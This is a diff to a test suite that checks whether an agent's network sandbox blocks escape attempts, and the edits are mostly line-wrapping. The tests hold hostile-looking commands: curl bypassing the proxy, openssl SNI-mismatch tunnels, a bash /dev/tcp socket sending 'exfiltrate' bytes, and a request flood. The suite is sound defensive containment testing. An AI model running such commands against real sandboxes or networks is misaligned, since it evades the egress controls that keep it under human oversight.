@@ -380,9 +380,8 @@ describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are 
       );
       if (hit) return hit.data as Denial;
       if (Date.now() > deadline) {
-        throw new Error(
-          `no egress.denied matching ${JSON.stringify(match)}; saw ${JSON.stringify(seen.map((e) => [e.type, e.data]))}`,
-        );
+        const saw = JSON.stringify(seen.map((e) => [e.type, e.data]));
+        throw new Error(`no egress.denied matching ${JSON.stringify(match)}; saw ${saw}`);
       }
       await new Promise((r) => setTimeout(r, 150));
     }
@@ -490,7 +489,8 @@ describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are 
     it('with the proxy variables ignored, an allowlisted name cannot be reached (no DNS, no route)', async () => {
       const before = listener.connections;
       const r = await inAgent(
-        `env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS --noproxy '*' --max-time 3 http://allowed.test:${listener.port}/`,
+        'env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy ' +
+          `curl -sS --noproxy '*' --max-time 3 http://allowed.test:${listener.port}/`,
       );
       networkRow('allowlisted name without the proxy', r.code !== 0, before);
       expect(r.code, r.output).not.toBe(0);
@@ -650,11 +650,12 @@ describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are 
       expect(body).toMatchObject({ error: 'egress_denied', host: 'unlisted.test', reason: 'not_in_allowlist' });
     });
 
-    it('a TLS name other than the CONNECT host is refused before any byte is forwarded (tls_sni_mismatch)', async () => {
+    it('a TLS name other than the CONNECT host is refused before a byte is forwarded (tls_sni_mismatch)', async () => {
       const bytesBefore = listener.bytes;
       const at = await mark();
       const r = await inAgent(
-        `timeout 15 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} -servername other.test </dev/null`,
+        `timeout 15 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} ` +
+          '-servername other.test </dev/null',
       );
       const recorded = await recordedAs(at, {
         host: 'allowed.test',
@@ -676,7 +677,8 @@ describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are 
       const bytesBefore = listener.bytes;
       // The listener never answers, so s_client waits; the ClientHello reaching the listener is the proof.
       await inAgent(
-        `timeout 3 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} -servername allowed.test </dev/null`,
+        `timeout 3 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} ` +
+          '-servername allowed.test </dev/null',
       );
       expect(listener.bytes).toBeGreaterThan(bytesBefore);
     });
@@ -838,7 +840,8 @@ describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are 
       const bytesBefore = listener.bytes;
       const at = await mark();
       const r = await inAgent(
-        `timeout 15 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} -noservername </dev/null`,
+        `timeout 15 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} ` +
+          '-noservername </dev/null',
       );
       const recorded = await recordedAs(at, {
         host: 'allowed.test',
@@ -859,7 +862,8 @@ describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are 
     it('finding 14: bytes that are neither TLS, HTTP nor SSH are refused (tunnel_unrecognized)', async () => {
       const bytesBefore = listener.bytes;
       const at = await mark();
-      const connect = `CONNECT allowed.test:${listener.port} HTTP/1.1\\r\\nHost: allowed.test:${listener.port}\\r\\n\\r\\n`;
+      const connect =
+        `CONNECT allowed.test:${listener.port} HTTP/1.1\\r\\n` + `Host: allowed.test:${listener.port}\\r\\n\\r\\n`;
       const r = await inAgent(
         `timeout 10 bash -c 'exec 3<>/dev/tcp/${gatewayIp}/3128; printf "${connect}" >&3; head -c 39 <&3; ` +
           `printf "\\001\\002exfiltrate\\n" >&3; cat <&3; echo "closed"'`,
@@ -1113,7 +1117,8 @@ describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are 
   it('a request flood beyond requests_per_minute (600) is cut off with 429 rate_limited', async () => {
     const at = await mark();
     const r = await inAgent(
-      `curl -s --no-progress-meter -Z --parallel-max 16 -o /dev/null -w '%{http_code}\\n' -x ${proxy()} 'http://unlisted.test/flood/[1-900]' 2>/dev/null`,
+      `curl -s --no-progress-meter -Z --parallel-max 16 -o /dev/null -w '%{http_code}\\n' -x ${proxy()} ` +
+        "'http://unlisted.test/flood/[1-900]' 2>/dev/null",
     );
     const codes = r.output.trim().split('\n');
     const limited = codes.filter((c) => c === '429').length;
